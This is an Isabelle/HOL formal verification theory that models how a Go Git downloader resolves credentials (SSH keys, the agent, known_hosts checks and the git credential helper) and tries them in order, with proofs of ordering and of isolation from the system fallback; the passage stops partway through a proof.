(* ===== verification/Git_Auth.thy ===== *)
theory Git_Auth
  imports Git_Refs Small_Internal Settings_Net
begin

text \<open>
  The credentials of a Git download (\<^verbatim>\<open>protocols/git/git.go\<close>): the ordered chain of credential
  sources, resolved lazily, SSH identities and host keys, and the system credential helper.  What
  the code takes from x/crypto/ssh, the SSH agent and the \<^verbatim>\<open>git\<close> program is the record \<open>auth_env\<close>.
\<close>

section \<open>State and data\<close>

text \<open>A public key is its marshalled bytes, a signer any value.\<close>

record ('n, 'g) auth_env =
  parse_private_key :: "string \<Rightarrow> 'g result"
  new_agent :: "('n sys \<Rightarrow> 'g list result) result"
  parse_known_hosts :: "string \<Rightarrow> (string list \<times> string \<times> string) option result"
  git_bin :: "string option"
  run_command :: "'n sys \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> 'n sys \<times> string result"
  parent_env :: "string list"

type_synonym host_keys = "(string \<times> string list) list"

datatype host_key_policy = AcceptAnyKey | InMemoryKeys host_keys

record ('n, 'g) ssh_auth =
  sa_user :: string
  sa_static :: "'g list"
  sa_agent :: "('n sys \<Rightarrow> 'g list result) option"
  sa_host_keys :: "host_key_policy option"

datatype ('n, 'g) auth = SSHKeys "('n, 'g) ssh_auth" | BasicAuth string string

text \<open>The boolean of \<open>WithSSHAuth\<close> is \<^verbatim>\<open>ownHostKeyPolicy\<close>.\<close>

datatype ('n, 'g) client_option =
    WithSSHAuth "('n, 'g) ssh_auth" bool
  | WithHTTPAuth string string
  | WithHTTPClient round_tripper

type_synonym ('n, 'g) resolver = "'n sys \<Rightarrow> 'n sys \<times> ('n, 'g) auth option result"

section \<open>Host keys\<close>

definition normalize_known_host :: "string \<Rightarrow> string" where
  "normalize_known_host h =
     (let t = to_lower (trim_space h)
      in case split_host_port t of
           Some (host, _) \<Rightarrow> host
         | None \<Rightarrow> trim_suffix (trim_prefix t ''['') '']'')"

definition keys_of :: "host_keys \<Rightarrow> string \<Rightarrow> string list" where
  "keys_of t h = (case map_of t h of None \<Rightarrow> [] | Some ks \<Rightarrow> ks)"

fun add_hosts :: "string list \<Rightarrow> string \<Rightarrow> host_keys \<Rightarrow> host_keys" where
  "add_hosts [] key t = t"
| "add_hosts (h # hs) key t =
     (if has_prefix h ''|'' then add_hosts hs key t
      else let k = normalize_known_host h in add_hosts hs key (map_put k (keys_of t k @ [key]) t))"

text \<open>
  The parsing loop goes on while there is input left; that it ends depends on the parser
  consuming its input, so it is a partial function.
\<close>

partial_function (option) known_hosts_loop ::
    "(string \<Rightarrow> (string list \<times> string \<times> string) option result) \<Rightarrow> string \<Rightarrow> host_keys \<Rightarrow> host_keys result option" where
  "known_hosts_loop parse rest t =
     (if rest = [] then Some (Inr t)
      else case parse rest of
        Inl err \<Rightarrow> Some (Inl (Errorf ''parsing known_hosts: %w'' [] [err]))
      | Inr None \<Rightarrow> Some (Inr t)
      | Inr (Some (hosts, key, remaining)) \<Rightarrow> known_hosts_loop parse remaining (add_hosts hosts key t))"

definition known_hosts_callback ::
    "(string \<Rightarrow> (string list \<times> string \<times> string) option result) \<Rightarrow> string \<Rightarrow> host_keys result option" where
  "known_hosts_callback parse data = known_hosts_loop parse data []"

text \<open>The callback itself.\<close>

definition check_host_key :: "host_keys \<Rightarrow> string \<Rightarrow> string \<Rightarrow> goerr option" where
  "check_host_key t hostname key =
     (let keys = keys_of t (normalize_known_host hostname)
      in if keys = [] then None
         else if key \<in> set keys then None
         else Some (Errorf ''ssh: host key mismatch for %q: the recorded key has changed'' [hostname] []))"

definition ssh_host_key_callback ::
    "('n, 'g) auth_env \<Rightarrow> 't settings \<Rightarrow> host_key_policy option result option" where
  "ssh_host_key_callback env s =
     (if insecure_skip_host_key_verify (git s) then Some (Inr (Some AcceptAnyKey))
      else case known_hosts (git s) of
        Some (c # cs) \<Rightarrow>
          map_option (\<lambda>r. bind_result r (\<lambda>t. Inr (Some (InMemoryKeys t))))
            (known_hosts_callback (parse_known_hosts env) (c # cs))
      | _ \<Rightarrow>
          if \<not> no_system_fallback s then Some (Inr None)
          else Some (Inr (Some AcceptAnyKey)))"

section \<open>SSH identities\<close>

fun parse_keys :: "(string \<Rightarrow> 'g result) \<Rightarrow> string option list \<Rightarrow> 'g list result" where
  "parse_keys parse [] = Inr []"
| "parse_keys parse (k # ks) =
     (case parse (case k of None \<Rightarrow> [] | Some x \<Rightarrow> x) of
        Inl err \<Rightarrow> Inl (Errorf ''parsing SSH key: %w'' [] [err])
      | Inr signer \<Rightarrow> bind_result (parse_keys parse ks) (\<lambda>rest. Inr (signer # rest)))"

definition agent_signers ::
    "('n, 'g) auth_env \<Rightarrow> 't settings \<Rightarrow> 'g list \<Rightarrow> ('n sys \<Rightarrow> 'g list result) option result" where
  "agent_signers env s static =
     (if no_system_fallback s then Inr None
      else case new_agent env of
        Inl err \<Rightarrow> if static = [] then Inl (Errorf ''SSH agent auth: %w'' [] [err]) else Inr None
      | Inr callback \<Rightarrow> Inr (Some callback))"

text \<open>The outer option is that of the known-hosts loop.\<close>

definition resolve_ssh_auth ::
    "('n, 'g) auth_env \<Rightarrow> 't settings \<Rightarrow> git_dl \<Rightarrow> ('n, 'g) ssh_auth option result option" where
  "resolve_ssh_auth env s d =
     map_option (\<lambda>cb. bind_result cb (\<lambda>policy.
       bind_result (parse_keys (parse_private_key env) (match_ssh_keys s (ssh_host_of (gd_repo_url d)))) (\<lambda>static.
       bind_result (agent_signers env s static) (\<lambda>agent.
         if static = [] \<and> agent = None then Inr None
         else Inr (Some \<lparr>sa_user = ''git'', sa_static = static, sa_agent = agent, sa_host_keys = policy\<rparr>)))))
     (ssh_host_key_callback env s)"

text \<open>What the handshake offers.\<close>

definition ssh_callback :: "('n, 'g) ssh_auth \<Rightarrow> 'n sys \<Rightarrow> 'g list" where
  "ssh_callback a w =
     sa_static a @ (case sa_agent a of
        None \<Rightarrow> []
      | Some ask \<Rightarrow> (case ask w of Inr got \<Rightarrow> got | Inl _ \<Rightarrow> []))"

definition new_ssh_auth :: "('n, 'g) ssh_auth \<Rightarrow> ('n, 'g) client_option" where
  "new_ssh_auth a = WithSSHAuth a (sa_host_keys a \<noteq> None)"

text \<open>
  The client configuration: go-git's own (the algorithms it set) and those named instead when
  grabber decided how host keys are verified.
\<close>

definition ssh_client_config :: "string list result \<Rightarrow> string list \<Rightarrow> bool \<Rightarrow> string list result" where
  "ssh_client_config inner supported own_policy =
     bind_result inner (\<lambda>algorithms. Inr (if own_policy \<and> algorithms = [] then supported else algorithms))"

definition auth_options :: "('n, 'g) auth \<Rightarrow> ('n, 'g) client_option list" where
  "auth_options a = (case a of SSHKeys k \<Rightarrow> [new_ssh_auth k] | BasicAuth u p \<Rightarrow> [WithHTTPAuth u p])"

section \<open>The system credential helper\<close>

definition credential_query :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "credential_query protocol host username =
     ''protocol='' @ protocol @ nl @ ''host='' @ host @ nl @
     (if username \<noteq> [] then ''username='' @ username @ nl else [])"

fun parse_credential_lines :: "string list \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<times> string" where
  "parse_credential_lines [] u p = (u, p)"
| "parse_credential_lines (l # ls) u p =
     (case cut_str l ''='' of (key, val, ok) \<Rightarrow>
        if \<not> ok then parse_credential_lines ls u p
        else if key = ''username'' then parse_credential_lines ls val p
        else if key = ''password'' then parse_credential_lines ls u val
        else parse_credential_lines ls u p)"

definition git_credential_fill ::
    "('n, 'g) auth_env \<Rightarrow> 'n sys \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'n sys \<times> (string \<times> string) option" where
  "git_credential_fill env w protocol host username =
     (case git_bin env of
        None \<Rightarrow> (w, None)
      | Some bin \<Rightarrow>
          (case run_command env w bin [''credential'', ''fill''] (credential_query protocol host username @ nl)
                  (non_interactive (parent_env env)) of
             (w1, Inl _) \<Rightarrow> (w1, None)
           | (w1, Inr out) \<Rightarrow>
               (case parse_credential_lines (split_chr CHR 0x0A out) [] [] of
                  (u, p) \<Rightarrow> if u = [] \<and> p = [] then (w1, None) else (w1, Some (u, p)))))"

section \<open>The chain of sources\<close>

definition url_user_of :: "url option \<Rightarrow> string" where
  "url_user_of u =
     (case Option.bind u u_user of None \<Rightarrow> [] | Some ui \<Rightarrow> ui_username ui)"

definition url_credential :: "url option \<Rightarrow> (string \<times> string) option" where
  "url_credential u =
     Option.bind (Option.bind u u_user) (\<lambda>ui. map_option (\<lambda>p. (ui_username ui, p)) (ui_password ui))"

definition const_source :: "('n, 'g) auth option \<Rightarrow> ('n, 'g) resolver" where
  "const_source a = (\<lambda>w. (w, Inr a))"

definition helper_source :: "('n, 'g) auth_env \<Rightarrow> url \<Rightarrow> string \<Rightarrow> ('n, 'g) resolver" where
  "helper_source env u user =
     (\<lambda>w. case git_credential_fill env w (u_scheme u) (url_hostname u) user of
        (w1, got) \<Rightarrow> (w1, Inr (map_option (\<lambda>(n, p). BasicAuth n p) got)))"

text \<open>
  \<open>None\<close> only when the known-hosts loop of an SSH remote does not end.
\<close>

definition auth_candidates ::
    "('n, 'g) auth_env \<Rightarrow> 't settings \<Rightarrow> git_dl \<Rightarrow> ('n, 'g) resolver list option" where
  "auth_candidates env s d =
     (if has_prefix (gd_repo_url d) ''ssh://'' \<or> scp_match (gd_repo_url d) then
        map_option (\<lambda>r. [\<lambda>w. (w, bind_result r (\<lambda>a. Inr (map_option SSHKeys a)))]) (resolve_ssh_auth env s d)
      else
        let u = url_parse (gd_repo_url d); user = url_user_of u
        in case url_credential u of
             Some (n, p) \<Rightarrow> Some [const_source (Some (BasicAuth n p))]
           | None \<Rightarrow> Some (
               map (\<lambda>c. const_source (Some (BasicAuth (hc_username c) (hc_password c)))) (match_https_credentials s (gd_repo_url d)) @
               (case u of
                  None \<Rightarrow> []
                | Some u' \<Rightarrow>
                    [const_source (map_option (\<lambda>(n, p). BasicAuth n p)
                       (request_credential s (u_scheme u') (url_hostname u') (u_path u')))] @
                    (if \<not> no_system_fallback s \<and> (u_scheme u' = ''https'' \<or> u_scheme u' = ''http'')
                     then [helper_source env u' user] else [])) @
               (if user \<noteq> [] then [const_source (Some (BasicAuth user []))] else [])))"

fun first_auth :: "('n, 'g) resolver list \<Rightarrow> 'n sys \<Rightarrow> 'n sys \<times> ('n, 'g) auth option result" where
  "first_auth [] w = (w, Inr None)"
| "first_auth (c # cs) w =
     (case c w of
        (w1, Inl err) \<Rightarrow> (w1, Inl err)
      | (w1, Inr (Some a)) \<Rightarrow> (w1, Inr (Some a))
      | (w1, Inr None) \<Rightarrow> first_auth cs w1)"

definition resolve_auth ::
    "('n, 'g) auth_env \<Rightarrow> 't settings \<Rightarrow> git_dl \<Rightarrow> 'n sys \<Rightarrow> ('n sys \<times> ('n, 'g) auth option result) option" where
  "resolve_auth env s d w = map_option (\<lambda>cs. first_auth cs w) (auth_candidates env s d)"

section \<open>Offering them in turn\<close>

text \<open>
  The loop of \<^verbatim>\<open>gitDownload\<close>: \<open>prep\<close> clones with the given client options, \<open>reset\<close> empties the
  directory.  It returns from the middle, or ends with whether a credential was offered and the
  errors so far.
\<close>

datatype loop_end = Returned "goerr option" | Finished bool "goerr list"

type_synonym ('n, 'g) prepare = "'n sys \<Rightarrow> ('n, 'g) client_option list \<Rightarrow> 'n sys \<times> goerr option"

fun credential_loop ::
    "('n, 'g) prepare \<Rightarrow> ('n sys \<Rightarrow> 'n sys \<times> goerr option) \<Rightarrow> ('n, 'g) client_option list \<Rightarrow>
     ('n, 'g) resolver list \<Rightarrow> 'n sys \<Rightarrow> bool \<Rightarrow> goerr list \<Rightarrow> 'n sys \<times> loop_end" where
  "credential_loop prep reset topts [] w attempted errs = (w, Finished attempted errs)"
| "credential_loop prep reset topts (c # cs) w attempted errs =
     (case c w of
        (w1, Inl err) \<Rightarrow> (w1, Returned (Some (Errorf ''resolving git auth: %w'' [] [err])))
      | (w1, Inr None) \<Rightarrow> credential_loop prep reset topts cs w1 attempted errs
      | (w1, Inr (Some a)) \<Rightarrow>
          (case (if attempted then reset w1 else (w1, None)) of
             (w2, Some e) \<Rightarrow> (w2, Returned (errors_join (errs @ [e])))
           | (w2, None) \<Rightarrow>
               (case prep w2 (auth_options a @ topts) of
                  (w3, None) \<Rightarrow> (w3, Returned None)
                | (w3, Some e) \<Rightarrow>
                    if \<not> auth_failure e then (w3, Finished True (errs @ [e]))
                    else credential_loop prep reset topts cs w3 True (errs @ [e]))))"

definition download_with_credentials ::
    "('n, 'g) prepare \<Rightarrow> ('n sys \<Rightarrow> 'n sys \<times> goerr option) \<Rightarrow> ('n, 'g) client_option list \<Rightarrow>
     ('n, 'g) resolver list \<Rightarrow> 'n sys \<Rightarrow> 'n sys \<times> goerr option" where
  "download_with_credentials prep reset topts cs w =
     (case credential_loop prep reset topts cs w False [] of
        (w1, Returned e) \<Rightarrow> (w1, e)
      | (w1, Finished attempted errs) \<Rightarrow>
          if \<not> attempted then prep w1 topts
          else if length errs = 1 then (w1, Some (errs ! 0))
          else if auth_failure (last errs)
          then (w1, Some (Errorf ''tried %d credentials for this remote, all rejected; last error: %w''
                  [dec_string (int (length errs))] [last errs]))
          else (w1, errors_join errs))"

section \<open>Facts\<close>

text \<open>Which of a list of credentials is accepted: a rejected one passes the turn on.\<close>

fun accepted :: "('a \<Rightarrow> goerr option) \<Rightarrow> 'a list \<Rightarrow> bool" where
  "accepted verdict [] = False"
| "accepted verdict (a # as) =
     (case verdict a of None \<Rightarrow> True | Some e \<Rightarrow> auth_failure e \<and> accepted verdict as)"

lemma accepted_iff:
  "accepted verdict as \<longleftrightarrow>
     (\<exists>xs a ys. as = xs @ a # ys \<and> verdict a = None \<and> (\<forall>x\<in>set xs. \<exists>e. verdict x = Some e \<and> auth_failure e))"
proof (induction as)
  case (Cons b bs)
  show ?case
  proof (cases "verdict b")
    case None
    then show ?thesis by (auto intro!: exI [of _ "[]"])
  next
    case (Some e)
    have "(\<exists>xs a ys. b # bs = xs @ a # ys \<and> verdict a = None \<and> (\<forall>x\<in>set xs. \<exists>e. verdict x = Some e \<and> auth_failure e)) \<longleftrightarrow>
      auth_failure e \<and>
      (\<exists>xs a ys. bs = xs @ a # ys \<and> verdict a = None \<and> (\<forall>x\<in>set xs. \<exists>e. verdict x = Some e \<and> auth_failure e))"
      (is "?l = (_ \<and> ?r)")
    proof
      assume ?l
      then obtain xs a ys where x: "b # bs = xs @ a # ys" "verdict a = None"
        "\<forall>x\<in>set xs. \<exists>e. verdict x = Some e \<and> auth_failure e" by blast
      then obtain xs' where "xs = b # xs'" using Some by (cases xs) auto
      with x Some show "auth_failure e \<and> ?r" by auto
    next
      assume r: "auth_failure e \<and> ?r"
      then obtain xs a ys where "bs = xs @ a # ys" "verdict a = None"
        "\<forall>x\<in>set xs. \<exists>e. verdict x = Some e \<and> auth_failure e" by blast
      with r Some show ?l by (intro exI [of _ "b # xs"]) auto
    qed
    then show ?thesis using Cons.IH Some by simp
  qed
qed simp

text \<open>How the loop ends, given the credentials it is offered.\<close>

definition loop_verdict :: "('a \<Rightarrow> goerr option) \<Rightarrow> 'a list \<Rightarrow> bool \<Rightarrow> goerr list \<Rightarrow> loop_end \<Rightarrow> bool" where
  "loop_verdict verdict as att errs r =
     (case r of
        Returned e \<Rightarrow> e = None \<and> accepted verdict as
      | Finished att' errs' \<Rightarrow> \<not> accepted verdict as \<and> att' = (att \<or> as \<noteq> []) \<and> (as = [] \<and> errs' = errs \<or> errs' \<noteq> []))"

lemma loop_verdict_rejected:
  assumes "verdict a = Some e" and "auth_failure e" and "loop_verdict verdict as True (errs @ [e]) r"
  shows "loop_verdict verdict (a # as) att errs r"
  using assms by (cases r) (auto simp: loop_verdict_def)

text \<open>
  The states \<open>I\<close> the loop passes through, in which what each part answers depends only on what it is
  asked.
\<close>

lemma credential_loop_spec:
  assumes prep: "\<And>w a. I w \<Longrightarrow> \<exists>w'. prep w (auth_options a @ topts) = (w', verdict a) \<and> I w'"
    and reset: "\<And>w. I w \<Longrightarrow> \<exists>w'. reset w = (w', None) \<and> I w'"
    and sources: "\<And>c w. c \<in> set cs \<Longrightarrow> I w \<Longrightarrow> \<exists>w'. c w = (w', Inr (offer c)) \<and> I w'"
    and "I w"
  shows "\<exists>w' r. credential_loop prep reset topts cs w att errs = (w', r) \<and> I w' \<and>
    loop_verdict verdict (List.map_filter offer cs) att errs r"
  using sources \<open>I w\<close>
proof (induction cs arbitrary: w att errs)
  case Nil
  then show ?case by (simp add: loop_verdict_def List.map_filter_simps)
next
  case (Cons c cs)
  have ih: "\<And>w att errs. I w \<Longrightarrow> \<exists>w' r. credential_loop prep reset topts cs w att errs = (w', r) \<and> I w' \<and>
    loop_verdict verdict (List.map_filter offer cs) att errs r"
    using Cons.IH Cons.prems(1) by simp
  obtain w1 where c: "c w = (w1, Inr (offer c))" "I w1"
    using Cons.prems(1) [of c w] Cons.prems(2) by auto
  show ?case
  proof (cases "offer c")
    case None
    then show ?thesis using c ih [OF c(2), of att errs] by (simp add: List.map_filter_simps)
  next
    case offered: (Some a)
    obtain w2 where w2: "(if att then reset w1 else (w1, None)) = (w2, None)" "I w2"
      using reset [OF c(2)] c(2) by (cases att) auto
    obtain w3 where v: "prep w2 (auth_options a @ topts) = (w3, verdict a)" "I w3"
      using prep [OF w2(2)] by blast
    have loop: "credential_loop prep reset topts (c # cs) w att errs =
      (case verdict a of
         None \<Rightarrow> (w3, Returned None)
       | Some e \<Rightarrow> if \<not> auth_failure e then (w3, Finished True (errs @ [e]))
           else credential_loop prep reset topts cs w3 True (errs @ [e]))"
      using c offered w2 v by (simp split: option.splits)
    show ?thesis
    proof (cases "verdict a")
      case (Some e)
      then show ?thesis unfolding loop using v(2) offered
          ih [OF v(2), of True "errs @ [e]"] loop_verdict_rejected [where verdict = verdict and a = a and e = e and errs = errs and att = att and as = "List.map_filter offer cs"] Some
        by (auto simp: List.map_filter_simps loop_verdict_def [of _ _ _ _ "Finished True _"])
    qed (use loop v offered in \<open>simp add: loop_verdict_def List.map_filter_simps\<close>)
  qed
qed

text \<open>The known-hosts table holds, per host, the keys of its unhashed entries.\<close>

lemma keys_of_put [simp]: "keys_of (map_put k ks t) h = (if h = k then ks else keys_of t h)"
  by (simp add: keys_of_def)

lemma keys_of_add_hosts:
  "set (keys_of (add_hosts hs key t) h) =
     set (keys_of t h) \<union> (if \<exists>x\<in>set hs. \<not> has_prefix x ''|'' \<and> normalize_known_host x = h then {key} else {})"
  by (induction hs key t rule: add_hosts.induct) (auto simp: Let_def split: if_splits)

text \<open>The entries of the data, as the parser delivers them.\<close>

inductive known_hosts_entries ::
    "(string \<Rightarrow> (string list \<times> string \<times> string) option result) \<Rightarrow> string \<Rightarrow> (string list \<times> string) list \<Rightarrow> bool"
  for parse where
  at_end: "known_hosts_entries parse [] []"
| at_eof: "parse rest = Inr None \<Longrightarrow> known_hosts_entries parse rest []"
| entry: "rest \<noteq> [] \<Longrightarrow> parse rest = Inr (Some (hosts, key, remaining)) \<Longrightarrow>
    known_hosts_entries parse remaining es \<Longrightarrow> known_hosts_entries parse rest ((hosts, key) # es)"

lemma known_hosts_loop_entries:
  "known_hosts_entries parse rest es \<Longrightarrow>
   known_hosts_loop parse rest t = Some (Inr (foldl (\<lambda>t (hs, key). add_hosts hs key t) t es))"
  by (induction arbitrary: t rule: known_hosts_entries.induct) (subst known_hosts_loop.simps; simp)+

lemma keys_of_fold:
  "key \<in> set (keys_of (foldl (\<lambda>t (hs, key). add_hosts hs key t) t es) h) \<longleftrightarrow>
     key \<in> set (keys_of t h) \<or>
     (\<exists>hs. (hs, key) \<in> set es \<and> (\<exists>x\<in>set hs. \<not> has_prefix x ''|'' \<and> normalize_known_host x = h))"
proof (induction es arbitrary: t)
  case (Cons e es)
  obtain hs k where "e = (hs, k)" by fastforce
  then show ?case using Cons.IH [of "add_hosts hs k t"] by (auto simp: keys_of_add_hosts)
qed simp

lemma known_hosts_loop_total:
  assumes "\<And>rest hosts key remaining. parse rest = Inr (Some (hosts, key, remaining)) \<Longrightarrow> length remaining < length rest"
  shows "\<exists>r. known_hosts_loop parse rest t = Some r"
proof (induction rest arbitrary: t rule: length_induct)
  case (1 rest)
  show ?case
  proof (cases "rest = [] \<or> (\<nexists>x. parse rest = Inr (Some x))")
    case True
    then show ?thesis by (subst known_hosts_loop.simps) (auto split: sum.splits option.splits)
  next
    case False
    then obtain hosts key remaining where p: "parse rest = Inr (Some (hosts, key, remaining))" "rest \<noteq> []"
      by (metis prod_cases3)
    then show ?thesis using 1 assms [OF p(1)] by (subst known_hosts_loop.simps) simp
  qed
qed

text \<open>
  What the credential helper protocol reads in a query: lines up to the first empty one, each an
  attribute, the last value of an attribute counting.
\<close>

definition query_attr :: "string \<Rightarrow> string \<Rightarrow> string option" where
  "query_attr q name =
     map_of (rev (List.map_filter (\<lambda>l. case cut_str l ''='' of (k, v, ok) \<Rightarrow> if ok then Some (k, v) else None)
       (takeWhile (\<lambda>l. l \<noteq> []) (split_chr CHR 0x0A q)))) name"

lemma cut_attr:
  "cut_str (''protocol='' @ v) ''='' = (''protocol'', v, True)"
  "cut_str (''host='' @ v) ''='' = (''host'', v, True)"
  "cut_str (''username='' @ v) ''='' = (''username'', v, True)"
  using cut_at_new [of "CHR ''=''" "''protocol''" v] cut_at_new [of "CHR ''=''" "''host''" v]
    cut_at_new [of "CHR ''=''" "''username''" v] by simp_all

lemma split_nl: "CHR 0x0A \<notin> set a \<Longrightarrow> split_chr CHR 0x0A (a @ nl @ b) = a # split_chr CHR 0x0A b"
  by (simp add: nl_def split_chr_append_sep split_chr_whole)

section \<open>Properties\<close>

text \<open>
  C16. With several credentials the download succeeds exactly when one of those offered, in the
  order of the chain, is accepted after nothing but rejections: a rejected credential is followed
  by the next one, any other failure ends the search, and only when no source offers anything is the
  remote tried anonymously.
\<close>

theorem credentials_in_order:
  assumes "\<And>w a. I w \<Longrightarrow> \<exists>w'. prep w (auth_options a @ topts) = (w', verdict a) \<and> I w'"
    and "\<And>w. I w \<Longrightarrow> \<exists>w'. reset w = (w', None) \<and> I w'"
    and "\<And>c w. c \<in> set cs \<Longrightarrow> I w \<Longrightarrow> \<exists>w'. c w = (w', Inr (offer c)) \<and> I w'"
    and "I w" and "\<And>w. I w \<Longrightarrow> snd (prep w topts) = anonymous"
  shows "snd (download_with_credentials prep reset topts cs w) = None \<longleftrightarrow>
    (if List.map_filter offer cs = [] then anonymous = None
     else \<exists>xs a ys. List.map_filter offer cs = xs @ a # ys \<and> verdict a = None \<and>
            (\<forall>x\<in>set xs. \<exists>e. verdict x = Some e \<and> auth_failure e))"
proof -
  let ?os = "List.map_filter offer cs"
  obtain w1 r where l: "credential_loop prep reset topts cs w False [] = (w1, r)" "I w1"
    and spec: "loop_verdict verdict ?os False [] r"
    using credential_loop_spec [where I = I and prep = prep and topts = topts and verdict = verdict and reset = reset and cs = cs
      and offer = offer and w = w and att = False and errs = "[]", OF assms(1-4)] by blast
  show ?thesis
  proof (cases r)
    case (Returned e)
    then have "e = None" "accepted verdict ?os" using spec by (auto simp: loop_verdict_def)
    moreover from this(2) have "?os \<noteq> []" by auto
    ultimately show ?thesis using l Returned accepted_iff [of verdict ?os]
      by (simp add: download_with_credentials_def)
  next
    case (Finished att errs)
    then have f: "\<not> accepted verdict ?os" "att = (?os \<noteq> [])" "?os = [] \<or> errs \<noteq> []" using spec by (auto simp: loop_verdict_def)
    show ?thesis
    proof (cases "?os = []")
      case True
      then show ?thesis using l Finished f assms(5) by (simp add: download_with_credentials_def)
    next
      case False
      then show ?thesis using l Finished f accepted_iff [of verdict ?os]
        by (simp add: download_with_credentials_def)
    qed
  qed
qed

definition demo_prep :: "(unit, string) prepare" where
  "demo_prep w opts =
     (w, if opts = [WithHTTPAuth ''new'' ''token''] then None else Some (Sentinel ErrAuthenticationRequired))"

theorem credentials_in_order_witness:
  "snd (download_with_credentials demo_prep (\<lambda>w. (w, None)) []
     [const_source (Some (BasicAuth ''old'' ''x'')), const_source None, const_source (Some (BasicAuth ''new'' ''token''))]
     \<lparr>sys_fs = \<lparr>fs_nodes = [], fs_cwd = []\<rparr>, sys_net = ()\<rparr>) = None"
proof -
  let ?w = "\<lparr>sys_fs = \<lparr>fs_nodes = [], fs_cwd = []\<rparr>, sys_net = ()\<rparr> :: unit sys"
  let ?cs = "[const_source (Some (BasicAuth ''old'' ''x'')), const_source None, const_source (Some (BasicAuth ''new'' ''token''))]
    :: (unit, string) resolver list"
  let ?v = "\<lambda>a. if a = BasicAuth ''new'' ''token'' then None else Some (Sentinel ErrAuthenticationRequired)"
  let ?o = "\<lambda>c. projr (snd (c ?w))"
  have 1: "\<exists>w'. demo_prep w (auth_options a @ []) = (w', ?v a) \<and> True" for w a
    by (cases a) (simp_all add: demo_prep_def auth_options_def new_ssh_auth_def)
  have 2: "snd (demo_prep w []) = Some (Sentinel ErrAuthenticationRequired)" for w
    by (simp add: demo_prep_def)
  have 3: "\<exists>w'. c w = (w', Inr (?o c)) \<and> True" if "c \<in> set ?cs" for c w
    using that by (auto simp: const_source_def)
  have o: "List.map_filter ?o ?cs = [BasicAuth ''old'' ''x'', BasicAuth ''new'' ''token'']"
    by (simp add: List.map_filter_simps const_source_def)
  have "\<exists>xs a ys. [BasicAuth ''old'' ''x'', BasicAuth ''new'' ''token''] = xs @ a # ys \<and> ?v a = None \<and>
     (\<forall>x\<in>set xs. \<exists>e. ?v x = Some e \<and> auth_failure e)"
    by (rule exI [of _ "[BasicAuth ''old'' ''x'']"], rule exI [of _ "BasicAuth ''new'' ''token''"], rule exI [of _ "[]"])
      (simp add: auth_failure_def)
  with o show ?thesis
    using credentials_in_order [where I = "\<lambda>_. True" and prep = demo_prep and topts = "[]" and verdict = ?v
      and reset = "\<lambda>w. (w, None)" and cs = ?cs and offer = ?o and w = ?w, OF 1 _ 3 _ 2] by simp
qed

text \<open>
  C33. With the system fallback disabled the chain of a remote depends neither on the SSH agent nor
  on the \<^verbatim>\<open>git\<close> program, its credential helpers or the environment: replacing all of them changes
  no candidate.
\<close>

theorem no_system_fallback_isolated:
  assumes "no_system_fallback s"
  shows "auth_candidates env s d =
    auth_candidates (env\<lparr>new_agent := a, git_bin := b, run_command := r, parent_env := e\<rparr>) s d"
proof -
  let ?env = "env\<lparr>new_agent := a, git_bin := b, run_command := r, parent_env := e\<rparr>"
  have "ssh_host_key_callback ?env s = ssh_host_key_callback env s"
    by (simp add: ssh_host_key_callback_def split: option.split list.split)
  then have "resolve_ssh_auth ?env s d = resolve_ssh_auth env s d"
    using assms by (simp add: resolve_ssh_auth_def agent_signers_def)
  then show ?thesis using assms by (simp add: auth_candidates_def Let_def split: option.split)
qed

definition demo_auth_env :: "(unit, string) auth_env" where
  "demo_auth_env =
     \<lparr>parse_private_key = Inr, new_agent = Inr (\<lambda>_. Inr [''agent key'']),
      parse_known_hosts = (\<lambda>data. case split_chr CHR '' '' data of
         [h, k] \<Rightarrow> Inr (Some ([h], k, [])) | _ \<Rightarrow> Inl (errors_new ''bad line'')),
      git_bin = Some ''/usr/bin/git'',
      run_command = (\<lambda>w _ _ _ _. (w, Inr (''username=me'' @ nl @ ''password=secret'' @ nl))),
      parent_env = []\<rparr>"

theorem no_system_fallback_isolated_witness:
  "auth_candidates demo_auth_env ((default_settings ''/tmp'' :: unit settings)\<lparr>no_system_fallback := True\<rparr>) (demo_dl ''v1'') =
   auth_candidates (demo_auth_env\<lparr>new_agent := Inl (errors_new ''no agent''), git_bin := None,
       run_command := (\<lambda>w _ _ _ _. (w, Inr [])), parent_env := []\<rparr>)
     ((default_settings ''/tmp'' :: unit settings)\<lparr>no_system_fallback := True\<rparr>) (demo_dl ''v1'')"
  by (rule no_system_fallback_isolated) simp

text \<open>The ordinary spellings of a host, with and without a port, in either letter case, are one host.\<close>

lemma lower_host_chars:
  assumes "list_all is_scp_host_char h"
  shows "list_all is_scp_host_char (to_lower h)"
proof -
  have "is_scp_host_char (lower_char c)" if "is_scp_host_char c" for c
    using that by (auto simp: is_scp_host_char_def is_alnum_def lower_char_def is_upper_def is_lower_def)
  then show ?thesis using assms by (auto simp: to_lower_def list_all_iff)
qed

lemma trim_space_none: "\<forall>c\<in>set s. \<not> is_space c \<Longrightarrow> trim_space s = s"
proof -
  have "dropWhile is_space t = t" if "\<forall>c\<in>set t. \<not> is_space c" for t using that by (cases t) auto
  from this [of s] this [of "rev s"] show "\<forall>c\<in>set s. \<not> is_space c \<Longrightarrow> trim_space s = s"
    by (simp add: trim_space_def trim_both_def trim_left_def trim_right_def)
qed

lemma host_port_chars:
  assumes "list_all is_scp_host_char h"
  shows "CHR '':'' \<notin> set h" "CHR ''['' \<notin> set h" "CHR '']'' \<notin> set h" "\<forall>c\<in>set h. \<not> is_space c"
  using host_chars_not [OF assms] assms by (auto simp: list_all_iff char_class_simps is_space_def)

lemma split_host_port_plain:
  assumes "CHR '':'' \<notin> set x" "CHR ''['' \<notin> set x" "CHR '']'' \<notin> set x"
    and "CHR '':'' \<notin> set p" "CHR ''['' \<notin> set p" "CHR '']'' \<notin> set p"
  shows "split_host_port (x @ CHR '':'' # p) = Some (x, p)"
    and "split_host_port (CHR ''['' # x @ CHR '']'' # CHR '':'' # p) = Some (x, p)"
proof -
  have "hd (x @ CHR '':'' # p) \<noteq> CHR ''[''" using assms(2) by (cases x) auto
  then show "split_host_port (x @ CHR '':'' # p) = Some (x, p)"
    using assms by (simp add: split_host_port_def last_index_chr_new)
  show "split_host_port (CHR ''['' # x @ CHR '']'' # CHR '':'' # p) = Some (x, p)"
    using assms last_index_chr_new [OF assms(4), of "CHR ''['' # x @ '']''"]
